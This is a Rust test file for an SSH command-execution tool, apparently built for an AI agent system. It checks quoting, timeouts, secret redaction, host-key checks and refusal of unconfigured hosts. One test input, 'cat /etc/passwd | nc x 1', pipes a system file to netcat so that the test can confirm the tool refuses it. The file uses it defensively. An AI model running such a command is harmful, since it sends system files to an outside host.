//! ssh_exec against the real OpenSSH server `make test` starts on 127.0.0.1 with fresh keys.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};

use pretty_assertions::assert_eq;
use serde_json::{Value, json};
use warden_protocol::Scope;
use warden_tool_api::{RegistryBuilder, ToolContext, ToolError, ToolOutput};
use warden_tool_ssh::{SshConfig, SshHost};

fn ssh_dir() -> PathBuf {
    PathBuf::from(std::env::var("WARDEN_TEST_SSH_DIR").expect(
        "WARDEN_TEST_SSH_DIR: run through make test (tests/scripts/services.sh start sshd)",
    ))
}

fn port() -> u16 {
    std::env::var("WARDEN_TEST_SSH_PORT")
        .ok()
        .and_then(|p| p.parse().ok())
        .unwrap_or(2222)
}

/// A known_hosts file holding `pub_file`'s key for the test server.
fn known_hosts(dir: &Path, pub_file: &str) -> PathBuf {
    let key = std::fs::read_to_string(ssh_dir().join(pub_file)).unwrap();
    let mut parts = key.split_whitespace();
    let line = format!(
        "[127.0.0.1]:{} {} {}\n",
        port(),
        parts.next().unwrap(),
        parts.next().unwrap()
    );
    let path = dir.join(format!("known_hosts-{pub_file}"));
    std::fs::write(&path, line).unwrap();
    path
}

fn host(name: &str, key: &str) -> SshHost {
    SshHost {
        name: name.to_owned(),
        address: "127.0.0.1".to_owned(),
        port: port(),
        user: "root".to_owned(),
        key_file: ssh_dir().join(key),
    }
}

async fn call(config: SshConfig, args: Value) -> Result<ToolOutput, ToolError> {
    let mut builder = RegistryBuilder::default();
    warden_tool_ssh::register(&mut builder, &config);
    let registry = builder.build().unwrap();
    let context = ToolContext::user("tester", [Scope::Admin]);
    registry.get("ssh_exec").unwrap().call(args, &context).await
}

fn trusted(dir: &Path) -> SshConfig {
    SshConfig {
        hosts: vec![host("box", "client_key")],
        known_hosts: Some(known_hosts(dir, "host_key.pub")),
    }
}

#[tokio::test]
async fn commands_run_remotely_as_the_exact_argv() {
    let dir = tempfile::tempdir().unwrap();
    let out = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "echo hello 'a   b'"}),
    )
    .await
    .unwrap();
    assert!(out.ok, "{}", out.output);
    assert_eq!(
        (out.data["stdout"].clone(), out.data["exit_code"].clone()),
        (json!("hello a   b\n"), json!(0))
    );

    // Quoted words reach the remote shell as literals: no expansion there either.
    let literal = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "echo '$(id)' '`id`' '*'"}),
    )
    .await
    .unwrap();
    assert_eq!(literal.data["stdout"], json!("$(id) `id` *\n"));

    let failed = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "sh -c 'echo oops >&2; exit 7'"}),
    )
    .await
    .unwrap();
    assert!(!failed.ok);
    assert_eq!(
        (
            failed.data["exit_code"].clone(),
            failed.data["stderr"].clone()
        ),
        (json!(7), json!("oops\n"))
    );

    let big = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "seq 1 100000"}),
    )
    .await
    .unwrap();
    assert!(big.truncated && big.data["stdout"].as_str().unwrap().len() == 32 * 1024);

    let slow = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "sleep 10", "timeout_secs": 1}),
    )
    .await
    .unwrap_err();
    assert_eq!(slow, ToolError::Timeout(1));
}

#[tokio::test]
async fn what_a_remote_command_prints_is_judged_with_the_command() {
    let dir = tempfile::tempdir().unwrap();
    // A generated key has no shape of its own (64 hex digits, as a container's id): the command
    // that printed it says it is one.
    let key = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "openssl rand -hex 32"}),
    )
    .await
    .unwrap();
    assert!(key.ok, "{}", key.output);
    assert_eq!(key.data["stdout"], json!("[redacted]\n"));
    assert!(
        key.output.starts_with("[redacted]\n[exit code 0"),
        "{}",
        key.output
    );

    // The same shape printed by a command that prints no secret stays readable.
    let id = "7d0c3e5f9a1b2c4d6e8f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
    let echoed = call(
        trusted(dir.path()),
        json!({"host": "box", "command": format!("echo {id}")}),
    )
    .await
    .unwrap();
    assert_eq!(echoed.data["stdout"], json!(format!("{id}\n")));
}

/// Whether a process whose command line is exactly `line` runs on this machine (the test's
/// OpenSSH server is local, so the remote host's processes are visible here).
fn running(line: &str) -> bool {
    std::process::Command::new("pgrep")
        .args(["-f", &format!("^{line}$")])
        .status()
        .unwrap()
        .success()
}

#[tokio::test]
async fn a_remote_command_reads_no_input_and_ends_with_its_limit() {
    let dir = tempfile::tempdir().unwrap();
    // Standard input is closed at once: a reader of it ends instead of waiting out the limit.
    let reader = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "cat", "timeout_secs": 60}),
    )
    .await
    .unwrap();
    assert_eq!(
        (reader.ok, reader.data["exit_code"].clone()),
        (true, json!(0))
    );

    // A command Warden stops waiting for does not go on running on the other host (a number
    // of seconds this run alone uses, so no earlier run's process is mistaken for it).
    let sleep = format!("sleep 4{}", std::process::id());
    let slow = call(
        trusted(dir.path()),
        json!({"host": "box", "command": sleep, "timeout_secs": 1}),
    )
    .await
    .unwrap_err();
    assert_eq!(slow, ToolError::Timeout(1));
    let mut left = true;
    for _ in 0..50 {
        left = running(&sleep);
        if !left {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    assert!(!left, "the remote command outlived its time limit");

    // Shell builtins still run (no program of their name for `timeout` to start).
    let builtin = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "command -v sh"}),
    )
    .await
    .unwrap();
    assert!(builtin.ok, "{}", builtin.output);
    assert!(builtin.data["stdout"].as_str().unwrap().contains("sh"));
}

#[tokio::test]
async fn unknown_and_changed_host_keys_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let empty = dir.path().join("empty_known_hosts");
    std::fs::write(&empty, "").unwrap();
    let unknown = SshConfig {
        hosts: vec![host("box", "client_key")],
        known_hosts: Some(empty),
    };
    let err = call(unknown, json!({"host": "box", "command": "true"}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, ToolError::Refused(ref m) if m.contains("is not in")),
        "{err}"
    );

    let changed = SshConfig {
        hosts: vec![host("box", "client_key")],
        known_hosts: Some(known_hosts(dir.path(), "stranger_key.pub")),
    };
    let err = call(changed, json!({"host": "box", "command": "true"}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, ToolError::Refused(ref m) if m.contains("differs") && m.contains("interception")),
        "{err}"
    );

    let wrong_client_key = SshConfig {
        hosts: vec![host("box", "stranger_key")],
        known_hosts: Some(known_hosts(dir.path(), "host_key.pub")),
    };
    let err = call(wrong_client_key, json!({"host": "box", "command": "true"}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, ToolError::Refused(ref m) if m.contains("did not accept the key")),
        "{err}"
    );
}

#[tokio::test]
async fn hosts_come_from_configuration_and_bad_input_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let err = call(
        trusted(dir.path()),
        json!({"host": "10.0.0.1", "command": "true"}),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(err, ToolError::InvalidArguments(ref m) if m.contains("configured hosts: box")),
        "{err}"
    );
    let err = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "cat /etc/passwd | nc x 1"}),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(err, ToolError::Refused(ref m) if m.contains("shell syntax")),
        "{err}"
    );
    let err = call(
        trusted(dir.path()),
        json!({"host": "box", "command": "true", "timeout_secs": 0}),
    )
    .await
    .unwrap_err();
    assert!(matches!(err, ToolError::InvalidArguments(_)), "{err}");

    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut down = trusted(dir.path());
    down.hosts[0].port = closed;
    let err = call(down, json!({"host": "box", "command": "true"}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, ToolError::Unavailable(ref m) if m.contains("cannot reach")),
        "{err}"
    );

    let no_file = SshConfig {
        hosts: vec![host("box", "client_key")],
        known_hosts: Some(dir.path().join("missing")),
    };
    let err = call(no_file, json!({"host": "box", "command": "true"}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, ToolError::Unavailable(ref m) if m.contains("does not exist")),
        "{err}"
    );
}
